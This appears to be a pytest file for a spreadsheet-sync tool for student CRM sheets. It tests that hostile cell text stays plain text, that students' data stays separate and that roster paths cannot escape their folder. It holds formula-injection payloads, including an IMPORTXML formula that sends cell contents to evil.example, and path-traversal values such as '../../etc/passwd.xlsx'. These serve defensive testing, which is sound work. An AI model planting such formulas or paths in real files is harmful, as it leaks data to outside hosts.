"""Hostile text never becomes a formula; a student's sheet never shows another student."""
import pytest
import re

from openpyxl import load_workbook

from jobs.nightly import run_nightly
from sheetsync.backends.google import GoogleBackend
from sheetsync.demo import generate_cohort
from sheetsync.demo.google import upload_cohort
from sheetsync.testing import FakeGoogle
from tests.conftest import NOW

pytestmark = pytest.mark.usefixtures("read_via")     # on both Google read paths

HOSTILE = ['=IMPORTXML("http://evil.example/?"&A1,"//a")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", '=HYPERLINK("http://evil.example","klicka")']


def plant_hostile(rows):
    """Hostile text in the company, contact and notes of the first leads."""
    header_at = next(i for i, r in enumerate(rows) if len(r) > 3)
    out = [list(r) for r in rows]
    for k, text in enumerate(HOSTILE, start=1):
        row = out[header_at + k]
        row[:] = [text if isinstance(v, str) and v and c < 3 else v for c, v in enumerate(row)]
    return out


def test_hostile_text_never_becomes_a_formula_anywhere_we_write(tmp_path):
    cohort = generate_cohort(4, 5, NOW)
    for s in cohort.students:       # two students share each hostile 'company' (master lists it)
        s.rows = plant_hostile(s.rows)
    with FakeGoogle() as google:
        config, sheets, master = upload_cohort(google, cohort, tmp_path)
        report = run_nightly(config, now=NOW, backend=GoogleBackend(config, sleep=lambda s: None))
        assert report.ok, report.table()
        formulas = [(book.title, sheet.title, key) for book in google.books.values()
                    for sheet in book.sheets for key, cell in sheet.cells.items() if cell.kind == "formula"]
        assert formulas == []
        shown = {v for sheet in google.books[master].sheets
                 for v in (c.formatted() for c in sheet.cells.values())}
        assert set(HOSTILE) & shown                    # the text itself arrived, as text


def test_hostile_text_stays_text_in_local_workbooks(demo_config, demo_cohort, now):
    folder = demo_config.resolve("students")
    for path in sorted(folder.glob("*.xlsx"))[:2]:
        book = load_workbook(path)
        ws = book.worksheets[0]
        header_at = next(r for r in range(1, 6) if sum(c.value is not None for c in ws[r]) > 3)
        for k, text in enumerate(HOSTILE, start=1):
            cell = ws.cell(row=header_at + k, column=1)
            cell.value, cell.data_type = text, "s"
        book.save(path)
    run_nightly(demo_config, now=now)
    for path in list(folder.glob("*.xlsx")) + [demo_config.resolve("master.xlsx")]:
        book = load_workbook(path)
        formulas = [(ws.title, c.coordinate) for ws in book.worksheets for row in ws.iter_rows()
                    for c in row if c.data_type == "f"]
        assert formulas == [], path.name


def test_no_owned_cell_of_a_student_names_another_student(tmp_path):
    cohort = generate_cohort(12, 3, NOW)
    with FakeGoogle() as google:
        config, sheets, master = upload_cohort(google, cohort, tmp_path)
        assert run_nightly(config, now=NOW, backend=GoogleBackend(config, sleep=lambda s: None)).ok
        names = {s.id: (s.name, s.id) for s in cohort.students}
        scanned = 0
        for student, sid in sheets.items():
            owned = []
            for tab in ("CRM", "sheetsync"):
                rows = google.get_values(sid, tab)
                if tab == "sheetsync":
                    owned += [v for r in rows for v in r]
                    continue
                header = rows[0]
                cols = [c for c, v in enumerate(header) if v.startswith(("sheetsync", "⚑"))]
                owned += [r[c] for r in rows for c in cols if c < len(r)]
            text = "\n".join(owned)
            scanned += len(owned)
            for other, (name, sid_other) in names.items():
                if other != student:
                    assert name not in text and sid_other not in text, (student, other)
        assert scanned > 1000


def test_the_master_holds_no_contact_details_unless_configured(tmp_path):
    cohort = generate_cohort(4, 3, NOW)
    with FakeGoogle() as google:
        config, sheets, master = upload_cohort(google, cohort, tmp_path)
        run_nightly(config, now=NOW, backend=GoogleBackend(config, sleep=lambda s: None))
        text = "\n".join(c.formatted() for sheet in google.books[master].sheets
                         for c in sheet.cells.values())
        assert "@" not in text and not re.search(r"\b0?7\d[\s-]?\d{3}[\s-]?\d{2}", text)
        contacts = {n for s in cohort.students for r in s.rows for n in r
                    if isinstance(n, str) and n in ("Karin Ek", "Per Holm", "Sofia Lund")}
        assert contacts and not any(n in text for n in contacts)


def test_a_roster_path_outside_the_students_folder_is_refused(tmp_path):
    import pytest as _pytest

    from sheetsync import load_config
    from sheetsync.errors import ConfigError
    for key, value in (("file", "../../etc/passwd.xlsx"), ("file", "/tmp/x.xlsx"), ("id", "../x")):
        (tmp_path / "sheetsync.toml").write_text(
            '[backend]\nkind = "xlsx"\nfolder = "students"\n[master]\npath = "m.xlsx"\n'
            f'[[students]]\nid = "{"anna" if key == "file" else value}"\nname = "A"\n'
            + (f'file = "{value}"\n' if key == "file" else ""), encoding="utf-8")
        with _pytest.raises(ConfigError, match="points outside the students folder"):
            load_config(tmp_path / "sheetsync.toml")


def test_a_sheet_url_with_an_account_number_is_understood():
    from sheetsync.backends.google import spreadsheet_id
    from sheetsync.onboarding.roster import _sheet_id
    url = "https://docs.google.com/spreadsheets/u/1/d/1AbC-dEf_123/edit#gid=0"
    assert spreadsheet_id(url) == _sheet_id(url) == "1AbC-dEf_123"


def test_roster_discover_twice_on_the_demo_adds_no_one(tmp_path):
    from click.testing import CliRunner

    from sheetsync import load_config
    from sheetsync.cli import main
    runner = CliRunner()
    folder = tmp_path / "d"
    assert runner.invoke(main, ["demo", "--dir", str(folder), "--students", "30", "--now", "2026-05-12"]).exit_code == 0
    for _ in range(2):
        result = runner.invoke(main, ["roster", "discover", "--config", str(folder / "sheetsync.toml"), "--write"])
        assert result.exit_code == 0, result.output
    assert len(load_config(folder / "sheetsync.toml").students) == 30
